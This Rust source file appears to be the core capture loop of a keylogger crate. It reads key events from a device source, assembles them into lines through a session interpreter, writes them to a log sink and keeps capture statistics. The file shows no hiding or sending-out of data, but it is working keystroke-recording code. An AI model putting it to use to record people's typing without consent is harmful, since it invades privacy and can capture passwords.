use crate::error::KeyloggerError;
use crate::interpreter::{LogEntry, Session, Transition};
use crate::keyboard::KeyEvent;
use crate::shutdown::ShutdownSignal;
use crate::sink::LogSink;
use crate::source::{next_event, EventSource, Wake};
use crate::KeyloggerResult;
use chrono::Utc;
use std::time::Duration;

/// Counters describing a finished capture.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct CaptureStats {
    /// Key events received.
    pub events: u64,
    /// Lines handed to the sink.
    pub lines: u64,
    /// Events for keys missing from the keymap.
    pub unknown_keys: u64,
    /// Records dropped because they could not be read.
    pub dropped_records: u64,
    /// Lines the sink failed to write.
    pub sink_errors: u64,
}

/// Feeds the events of an [`EventSource`] through a [`Session`] and writes the resulting lines
/// to a [`LogSink`].
pub struct Keylogger<S, K> {
    source: S,
    sink: K,
    session: Session,
    shutdown: ShutdownSignal,
    poll_interval: Option<Duration>,
    flush_on_exit: bool,
    stats: CaptureStats,
}

impl<S: EventSource, K: LogSink> Keylogger<S, K> {
    /// Create a new `Keylogger`.
    pub fn new(source: S, sink: K, session: Session, shutdown: ShutdownSignal) -> Self {
        Self {
            source,
            sink,
            session,
            shutdown,
            poll_interval: None,
            flush_on_exit: false,
            stats: CaptureStats::default(),
        }
    }

    /// Wake up at least this often to check for shutdown, even without input.
    pub fn poll_interval(mut self, interval: Option<Duration>) -> Self {
        self.poll_interval = interval;
        self
    }

    /// Log the unsubmitted line when capture stops, instead of dropping it.
    pub fn flush_on_exit(mut self, flush: bool) -> Self {
        self.flush_on_exit = flush;
        self
    }

    /// Capture key events until a shutdown is requested.
    ///
    /// The source is closed before this returns. This function returns
    /// [`KeyloggerError::SourcesExhausted`] if the source runs out of devices first.
    pub async fn capture(mut self) -> KeyloggerResult<CaptureStats> {
        let result = self.capture_loop().await;

        if self.flush_on_exit {
            if let Some(entry) = self.session.flush(Utc::now()) {
                self.persist(&entry);
            }
        }

        let Self { source, stats, .. } = self;
        source.close();

        tracing::info!(
            events = stats.events,
            lines = stats.lines,
            unknown_keys = stats.unknown_keys,
            dropped_records = stats.dropped_records,
            sink_errors = stats.sink_errors,
            "capture stopped"
        );

        result.map(|()| stats)
    }

    async fn capture_loop(&mut self) -> KeyloggerResult<()> {
        loop {
            if self.shutdown.is_requested() {
                return Ok(());
            }

            let wake = tokio::select! {
                biased;
                _ = self.shutdown.requested() => return Ok(()),
                wake = next_event(&mut self.source, self.poll_interval) => wake,
            };

            match wake {
                Wake::Event(Ok(event)) => self.dispatch(&event),
                Wake::Event(Err(e)) => {
                    self.stats.dropped_records += 1;
                    tracing::warn!("dropped key event: {e}");
                }
                Wake::Timeout => continue,
                Wake::Closed => return Err(KeyloggerError::SourcesExhausted),
            }
        }
    }

    fn dispatch(&mut self, event: &KeyEvent) {
        self.stats.events += 1;

        match self.session.handle(event) {
            Ok(Transition::Submit(entry)) => self.persist(&entry),
            Ok(Transition::UnknownKey(_)) => self.stats.unknown_keys += 1,
            Ok(_) => {}
            Err(KeyloggerError::BufferOverflow { limit }) => {
                tracing::warn!("line reached {limit} keys, submitting it early");

                if let Some(entry) = self.session.flush(event.ts) {
                    self.persist(&entry);
                }

                if let Err(e) = self.session.handle(event) {
                    tracing::warn!("dropped key {}: {e}", event.code);
                }
            }
            Err(e) => tracing::warn!("dropped key {}: {e}", event.code),
        }
    }

    fn persist(&mut self, entry: &LogEntry) {
        match self.sink.write(entry) {
            Ok(()) => {
                self.stats.lines += 1;
                tracing::trace!(keys = entry.keys.len(), "line written");
            }
            Err(e) => {
                self.stats.sink_errors += 1;
                tracing::error!("failed to write line: {e}");
            }
        }
    }
}
